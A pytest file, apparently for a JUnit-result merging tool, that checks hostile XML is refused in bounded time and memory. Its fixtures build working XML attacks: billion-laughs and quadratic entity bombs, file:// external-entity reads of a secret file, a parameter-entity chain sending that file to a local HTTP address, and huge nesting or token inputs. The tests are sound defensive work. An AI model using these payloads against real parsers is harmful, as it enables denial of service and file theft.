"""Point 5: hostile XML. Entity bombs and external entities are refused before anything
expands or is fetched, in bounded time and memory, with a clear error; absurd nesting and
giant single tokens (which make expat < 2.6 re-scan for minutes) are stopped too.

Each file is merged in a child process whose own peak RSS and wall time are measured.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.faults.conftest import column_of, merge_in_child, results_of

SECRET = "s3cr3t-c0ntent-that-must-never-leak"
TIME_LIMIT_S = 5.0
MEMORY_LIMIT_MB = 150.0  # an interpreter with the harness loaded is ~50 MB; a bomb would be GBs

TAIL = (
    '<testsuites><testsuite name="x"><testcase classname="a.b" name="test_x">&{ref};</testcase>'
    "</testsuite></testsuites>"
)


def billion_laughs() -> str:
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return f"<?xml version='1.0'?><!DOCTYPE testsuites [{''.join(lines)}]>" + TAIL.format(ref="lol9")


def quadratic_blowup() -> str:
    entity = "A" * 100_000
    refs = "&big;" * 50_000  # 5 GB once expanded
    return (
        f'<!DOCTYPE testsuites [<!ENTITY big "{entity}">]><testsuites><testsuite><testcase name="q">'
        f"<system-out>{refs}</system-out></testcase></testsuite></testsuites>"
    )


def external_entity(secret_file: Path) -> str:
    return f'<!DOCTYPE testsuites [<!ENTITY xxe SYSTEM "file://{secret_file}">]>' + TAIL.format(ref="xxe")


def external_dtd(secret_file: Path) -> str:
    return f'<!DOCTYPE testsuites SYSTEM "file://{secret_file}">' + TAIL.format(ref="amp")


def parameter_entity(secret_file: Path) -> str:
    return (
        f'<!DOCTYPE testsuites [<!ENTITY % ext SYSTEM "file://{secret_file}"> %ext;'
        f"<!ENTITY % wrap \"<!ENTITY leak SYSTEM 'http://127.0.0.1:9/?%ext;'>\"> %wrap;]>"
    ) + TAIL.format(ref="leak")


def undeclared_entity(_secret_file: Path) -> str:
    return TAIL.format(ref="xxe")  # no DTD at all: expat must not resolve it from anywhere


def deep_nesting() -> str:
    return (
        "<testsuites><testsuite><testcase name='deep'>" + "<x>" * 500_000 + "</x>" * 500_000 + "</testcase>"
        "</testsuite></testsuites>"
    )


def junit_only_cell(root: Path, cell_id: str, xml: str) -> Path:
    cell = root / cell_id
    cell.mkdir()
    manifest = {"cell_id": cell_id, "backend": "cpu", "run_id": f"run-{cell_id}", "status": "completed"}
    (cell / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    (cell / "junit.xml").write_text(xml, encoding="utf-8")
    return cell


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


REFUSED = "junit.xml: refused: DOCTYPE or entity declarations are not allowed in JUnit files"


@pytest.mark.parametrize(
    "make",
    [
        lambda _s: billion_laughs(),
        lambda _s: quadratic_blowup(),
        external_entity,
        external_dtd,
        parameter_entity,
    ],
    ids=["billion-laughs", "quadratic-blowup", "external-entity", "external-dtd", "parameter-entity"],
)
def test_entities_refused_in_bounded_time_and_memory(tmp_path: Path, secret_file: Path, make) -> None:
    good = junit_only_cell(tmp_path, "good", TAIL.replace("&{ref};", "fine"))
    bad = junit_only_cell(tmp_path, "hostile", make(secret_file))
    matrix, run = merge_in_child(bad, good, timeout=60)
    assert run.seconds < TIME_LIMIT_S, f"took {run.seconds:.1f} s"
    assert run.peak_rss_mb < MEMORY_LIMIT_MB, f"peak RSS {run.peak_rss_mb:.0f} MB"
    assert column_of(matrix, "hostile")["errors"] == [REFUSED]
    assert results_of(matrix, "hostile") == {}  # nothing from a refused file is believed
    assert column_of(matrix, "hostile")["state"] == "no-data"
    assert results_of(matrix, "good")["x::a.b::test_x"]["outcome"] == "passed"  # the rest still merges
    assert SECRET not in run.stdout and SECRET not in run.stderr


def test_undeclared_entity_is_not_resolved(tmp_path: Path, secret_file: Path) -> None:
    bad = junit_only_cell(tmp_path, "undeclared", undeclared_entity(secret_file))
    matrix, run = merge_in_child(bad)
    (error,) = column_of(matrix, "undeclared")["errors"]
    assert error.startswith("junit.xml: not well-formed XML at line 1") and "undefined entity" in error
    assert SECRET not in run.stdout


def test_deep_nesting_refused(tmp_path: Path) -> None:
    bad = junit_only_cell(tmp_path, "deep", deep_nesting())
    matrix, run = merge_in_child(bad)
    assert run.seconds < TIME_LIMIT_S and run.peak_rss_mb < MEMORY_LIMIT_MB, (run.seconds, run.peak_rss_mb)
    assert column_of(matrix, "deep")["errors"] == ["junit.xml: refused: elements nested deeper than 256 levels"]


@pytest.mark.parametrize(
    ("opening", "closing"),
    [("<failure message='", "'>x</failure>"), ("<!--", "-->")],
    ids=["100MB-attribute", "100MB-comment"],
)
def test_giant_single_token_stopped_in_bounded_time(tmp_path: Path, opening: str, closing: str) -> None:
    """expat 2.5 re-scans an unfinished token per chunk: a 100 MB attribute took > 3 minutes before."""
    cell = junit_only_cell(tmp_path, "giant", "")
    with (cell / "junit.xml").open("w", encoding="utf-8") as handle:
        handle.write("<testsuites><testsuite><testcase classname='a.b' name='test_first'/><testcase name='big'>")
        handle.write(opening)
        block = "a" * (1 << 20)
        for _ in range(100):
            handle.write(block)
        handle.write(closing + "</testcase></testsuite></testsuites>")
    matrix, run = merge_in_child(cell)
    assert run.seconds < 10, f"took {run.seconds:.1f} s"
    assert run.peak_rss_mb < 250, f"peak RSS {run.peak_rss_mb:.0f} MB"
    (error,) = column_of(matrix, "giant")["errors"]
    assert "runs past 16 MB" in error and "kept 1 testcases read before it" in error
    assert results_of(matrix, "giant")["a.b::test_first"]["outcome"] == "passed"
